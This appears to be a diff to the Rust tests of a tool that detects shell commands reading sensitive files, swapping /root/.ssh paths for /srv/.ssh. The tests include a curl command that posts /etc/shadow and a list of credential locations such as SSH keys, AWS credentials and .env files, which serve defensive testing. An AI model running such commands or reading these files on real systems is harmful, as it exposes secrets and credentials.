@@ -149,7 +149,7 @@ mod tests {
             read("curl -d @/etc/shadow --cert=/etc/ssl/private/a.pem x"),
             ["/etc/shadow", "/etc/ssl/private/a.pem"]
         );
-        assert_eq!(read("sort -o/root/.ssh/id_rsa"), ["/root/.ssh/id_rsa"]);
+        assert_eq!(read("sort -o/srv/.ssh/id_rsa"), ["/srv/.ssh/id_rsa"]);
         let glob = Arg { text: "/srv/app/.aws/*".to_owned(), kind: Kind::Glob };
         assert_eq!(read_by(&[Arg::constant("tail"), glob]).len(), 1);
         for text in ["grep credentials app.log", "kubectl get secret credentials", "ls -l /etc/shadow", "id"] {
@@ -165,7 +165,7 @@ mod tests {
             "../etc/shadow-",
             "/etc/ssh/ssh_host_rsa_key",
             "~/.aws/credentials",
-            "/root/.ssh/id_ed25519",
+            "/srv/.ssh/id_ed25519",
             "/home2/a/.ssh/work",
             ".env",
             "app/.env.production",
@@ -178,7 +178,7 @@ mod tests {
             "~/.docker/config.json",
             ".//.netrc",
             "~/.aws/sso/cache/1.json",
-            "/root/.ssh",
+            "/srv/.ssh",
             "~/.kube/",
             "/etc/ssl/private",
             "~/.config/gcloud/application_default_credentials.json",
